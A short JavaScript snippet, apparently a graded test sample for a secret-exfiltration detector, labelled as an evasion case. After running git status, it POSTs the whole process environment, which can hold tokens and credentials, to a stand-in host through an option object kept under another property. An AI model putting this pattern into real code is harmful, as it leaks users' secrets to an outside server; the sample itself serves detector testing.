// evasion: the child's options kept in another object's property, whose env
// is then sent
// grade: medium; does: env-out
const { spawnSync } = require("child_process");
const opts = { env: { ...process.env, CI: "1" }, encoding: "utf8" };
spawnSync("git", ["status"], opts);
const job = { name: "status", options: opts };
fetch("https://c.example/job", { method: "POST", body: JSON.stringify(job.options.env) });
